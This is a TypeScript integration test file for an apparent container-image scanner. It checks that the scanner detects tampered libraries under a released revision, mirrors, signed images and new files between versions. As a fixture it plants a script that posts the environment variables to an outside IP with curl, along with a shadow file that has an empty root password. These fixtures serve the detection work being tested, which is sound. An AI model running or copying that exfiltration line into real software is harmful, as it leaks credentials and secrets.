import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { freePort } from '@tidewaiter/servers';
import {
  buildImage,
  buildIndex,
  type CosignKey,
  cosignKey,
  cosignSign,
  describeWith,
  type HttpSink,
  type ImageSpec,
  programs,
  pushImage,
  startRegistry,
  type TarEntry,
  type TestRegistry,
  webhookSink,
} from '@tidewaiter/testkit';

import { debian13, dpkgStatus, writeAdvisories } from './fixtures.js';
import {
  makeHome,
  quiet,
  removeFolders,
  startTidewaiter,
  temporaryFolder,
  type Tidewaiter,
  until,
} from './tidewaiter.js';

interface Push {
  id: string;
  repository: string;
  digest: string;
  state: string;
  verdict: string | null;
}

interface Finding {
  id: string;
  severity: string;
  path: string | null;
  evidence: Record<string, unknown>;
}

const hookSecret = 'hook-secret-of-the-test';

const library = (content: string): TarEntry => ({ path: 'opt/app/lib/libcore.so', content });
const base: TarEntry[] = [debian13, dpkgStatus({ zlib: '1.3-1' })];
const app: TarEntry[] = [library('core'), { path: 'opt/app/run.sh', content: '#!/bin/sh\nexec true\n', mode: 0o755 }];
const altered: TarEntry[] = [library('evil'), app[1]!];

const sha256 = (content: string) => `sha256:${createHash('sha256').update(content).digest('hex')}`;

/** Image that names a commit, of one repeated digit. */
const release = (digit: string, layer: TarEntry[], more: Partial<ImageSpec> = {}): ImageSpec => {
  const Labels = { 'org.opencontainers.image.revision': digit.repeat(40) };
  return { layers: [base, layer], config: { Labels }, ...more };
};

describeWith(programs('docker-registry', 'skopeo', 'cosign'))('releases', () => {
  let dir: string;
  let registry: TestRegistry;
  let mirror: TestRegistry;
  let sink: HttpSink;
  let tidewaiter: Tidewaiter;
  let key: CosignKey;

  beforeAll(async () => {
    dir = temporaryFolder();
    const ingestPort = await freePort();
    [key, sink] = await Promise.all([cosignKey(dir, 'release'), webhookSink()]);
    const notify = (name: string) => ({
      url: `http://127.0.0.1:${ingestPort}/hooks/registry/${name}`,
      headers: { Authorization: `Bearer ${hookSecret}` },
    });
    [registry, mirror] = await Promise.all([
      startRegistry({ notify: notify('main') }),
      startRegistry({ notify: notify('mirror') }),
    ]);
    const home = makeHome({
      'release.pub': key.publicKey,
      'tidewaiter.yaml': `
registries:
  - { name: main, kind: distribution, url: "${registry.url}", webhookSecret: ${hookSecret}, allowPrivate: true }
  - { name: mirror, kind: distribution, url: "${mirror.url}", webhookSecret: ${hookSecret}, allowPrivate: true }
signers:
  - { name: release, keyFile: release.pub, repositories: ["signed/*"] }
`,
      'routing.yaml': `
route: { receiver: audit, group_by: [repository, tag], group_wait: 0s }
receivers: [ { name: audit, webhook_configs: [ { url: "${sink.url}" } ] } ]
`,
    });
    tidewaiter = await startTidewaiter(home, ingestPort);
    const advisories = writeAdvisories(join(home, 'osv'), [
      { id: 'CVE-2026-1001', package: 'zlib', fixed: '1.3-2', severity: 'LOW' },
    ]);
    await tidewaiter.command('advisories', 'import', advisories);
    const { stdout: token } = await tidewaiter.command('tokens', 'create', 'gate');
    writeFileSync(join(dir, 'token'), token.trim());
  }, 120_000);

  afterAll(async () => {
    await tidewaiter?.stop();
    await Promise.all([registry.stop(), mirror.stop(), sink.stop()]);
    await removeFolders();
  });

  async function push(to: TestRegistry, name: string, ...specs: ImageSpec[]): Promise<string> {
    const layout = temporaryFolder();
    if (specs.length === 1) await buildImage(layout, specs[0]!);
    else await buildIndex(layout, specs);
    return pushImage(to, name, `oci:${layout}:latest`);
  }

  /** Waits until the image of a repository is evaluated. */
  async function evaluated(repository: string, digest: string): Promise<Push> {
    let found: Push | undefined;
    await until(`${repository}@${digest} is evaluated`, async () => {
      const { items } = await tidewaiter.api<{ items: Push[] }>('/pushes?limit=200');
      found = items.find((each) => each.repository === repository && each.digest === digest);
      return found?.state === 'analyzed';
    });
    return found!;
  }

  async function altogether(digest: string): Promise<Finding[]> {
    const { items } = await tidewaiter.api<{ items: Finding[] }>(`/images/${digest}/findings`);
    return items.filter(({ id }) => id === 'same-revision-different-content');
  }

  const messagesAbout = (repository: string) =>
    sink.received.map(({ text }) => text).filter((text) => text.includes(`"${repository}"`));

  async function gate(image: string): Promise<number> {
    const flags = ['--server', tidewaiter.consoleUrl, '--token-file', join(dir, 'token')];
    return tidewaiter.command('gate', image, ...flags).then(
      () => 0,
      (error: { code: number }) => error.code,
    );
  }

  it('reports an altered library of an earlier released revision', async () => {
    const clean = await push(registry, 'free/app:7.2', release('a', app));
    await evaluated('free/app', clean);
    const evil = await push(registry, 'free/app:7.2', release('a', altered));
    expect(await evaluated('free/app', evil)).toMatchObject({ verdict: 'fail' });
    expect(await altogether(clean)).toEqual([]);
    expect(await altogether(evil)).toMatchObject([
      {
        severity: 'high',
        path: 'opt/app/lib/libcore.so',
        evidence: {
          revision: 'a'.repeat(40),
          previousDigest: clean,
          changes: [{ path: 'opt/app/lib/libcore.so', before: sha256('core'), after: sha256('evil') }],
        },
      },
    ]);
    await until('it is announced', () => messagesAbout('free/app').length > 0);
    await quiet();
    const [message, ...more] = messagesAbout('free/app');
    expect(more).toEqual([]);
    for (const named of ['opt/app/lib/libcore.so', sha256('core'), sha256('evil')]) expect(message).toContain(named);
    expect(await gate(`${registry.host}/free/app:7.2`)).toBe(1);
  }, 120_000);

  it('rates it critical if a signature proves the revision', async () => {
    const [clean, evil] = [
      await push(registry, 'signed/app:7.2', release('b', app)),
      await push(registry, 'signed/app:7.2', release('b', altered)),
    ];
    await evaluated('signed/app', clean);
    await evaluated('signed/app', evil);
    for (const digest of [clean, evil]) await cosignSign(dir, key, `${registry.host}/signed/app@${digest}`);
    await until('the signature counts', async () => (await altogether(evil))[0]?.severity === 'critical');
    expect(await altogether(evil)).toMatchObject([{ evidence: { revisionProvenBy: 'signature' } }]);
    expect(await gate(`${registry.host}/signed/app@${evil}`)).toBe(1);
  }, 120_000);

  it('reports it under another tag, in a mirror, and in an index', async () => {
    const platforms = ['linux/amd64', 'linux/arm64'];
    const index = (layer: TarEntry[]) => platforms.map((platform) => release('c', layer, { platform }));
    const clean = await push(registry, 'multi/app:1.0.0', ...index(app));
    await evaluated('multi/app', clean);
    const other = await push(registry, 'multi/app:1.0.0-hotfix', ...index(altered));
    expect(await evaluated('multi/app', other)).toMatchObject({ verdict: 'fail' });
    const incidents = async () => {
      const { items } = await tidewaiter.api<{ items: { id: string; title: string }[] }>('/incidents');
      return items.filter(({ title }) => title.includes('multi/app'));
    };
    await until('it has an incident', async () => (await incidents()).length > 0);
    expect(await incidents()).toMatchObject([{ title: `Altered build in ${registry.host}/multi/app:1.0.0-hotfix` }]);
    await until('it is announced', () => messagesAbout('multi/app').some((text) => text.includes('1.0.0-hotfix')));
    const copied = await push(mirror, 'proxy/multi/app:9', release('c', altered));
    expect(await evaluated('proxy/multi/app', copied)).toMatchObject({ verdict: 'fail' });
    await until('the incident has both', async () => {
      const [incident] = await incidents();
      return JSON.stringify(await tidewaiter.api(`/incidents/${incident!.id}`)).includes('proxy/multi/app:9');
    });
    await quiet();
    expect(await incidents()).toHaveLength(1);
    // The message of the push reports it; the incident and the mirror send no further one.
    const about = sink.received.filter(({ text }) => /1\.0\.0-hotfix|proxy\/multi\/app/.test(text));
    expect(about).toHaveLength(1);
    const same = await push(mirror, 'proxy/multi/app:1.0.0', ...index(app));
    expect((await evaluated('proxy/multi/app', same)).verdict).not.toBe('fail');
  }, 120_000);

  it('ignores a rebuild that only changes times, and another revision', async () => {
    const times = (mtime: number) => app.map((entry) => ({ ...entry, mtime }));
    const first = await push(registry, 'calm/app:1', release('d', times(1_000)));
    await evaluated('calm/app', first);
    const again = await push(registry, 'calm/app:2', release('d', times(2_000), { created: '2026-02-02T00:00:00Z' }));
    await evaluated('calm/app', again);
    expect(again).not.toBe(first);
    expect(await altogether(again)).toEqual([]);
    const log: TarEntry = { path: 'var/log/build.log', content: 'later' };
    const logged = await push(registry, 'calm/app:3', release('d', [...app, log]));
    await evaluated('calm/app', logged);
    expect(await altogether(logged)).toMatchObject([{ severity: 'negligible' }]);
    const next = await push(registry, 'calm/app:4', release('e', altered));
    await evaluated('calm/app', next);
    expect(await altogether(next)).toEqual([]);
  }, 120_000);

  it('compares a version with the previous one, and announces only its changes', async () => {
    const tool: TarEntry = {
      ...{ path: 'usr/local/bin/report', mode: 0o755 },
      content: '#!/bin/sh\ncurl -s -d "$(env)" http://203.0.113.66/upload\n',
    };
    const leak: TarEntry = { path: 'etc/shadow', content: 'root::19000:0:99999:7:::\n', mode: 0o640 };
    const labeled = (layer: TarEntry[]) => ({ layers: [base, layer], config: {} });
    const before = await push(registry, 'lines/app:2.0.0', labeled([...app, leak]));
    await evaluated('lines/app', before);
    await push(registry, 'lines/app:2.0.0-slim', labeled([app[0]!]));
    await until('the first release is announced', () => messagesAbout('lines/app').length > 0);
    const after = await push(registry, 'lines/app:2.0.1', labeled([...app, leak, tool]));
    const { id } = await evaluated('lines/app', after);
    const baseline = { tag: '2.0.0', digest: before, reason: 'previous-version', line: '2.0' };
    expect(await tidewaiter.api(`/pushes/${id}`)).toMatchObject({ previousDigest: null, comparedWith: baseline });
    expect(await tidewaiter.api(`/pushes/${id}/changes`)).toMatchObject({
      comparedWith: baseline,
      files: {
        total: 1,
        items: [
          { path: 'usr/local/bin/report', sha256Before: null, sha256After: sha256(String(tool.content)).slice(7) },
        ],
      },
      hosts: { items: [{ host: '203.0.113.66' }] },
    });
    await until('the release is announced', () => messagesAbout('lines/app').some((text) => text.includes('"2.0.1"')));
    const { alerts } = JSON.parse(messagesAbout('lines/app').at(-1)!) as {
      alerts: { labels: { rule: string; new: string } }[];
    };
    const fresh = alerts.filter(({ labels }) => labels.new === 'true').map(({ labels }) => labels.rule);
    expect(fresh.length).toBeGreaterThan(0);
    expect(alerts.some(({ labels }) => labels.new === 'false')).toBe(true);
    const asked = await tidewaiter.api<{ against: string }>('/gate', {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ image: `${registry.host}/lines/app:2.0.1`, failOn: 'new:high' }),
    });
    expect(asked).toMatchObject({ against: `${registry.host}/lines/app@${before}`, result: 'fail' });
  }, 120_000);
});
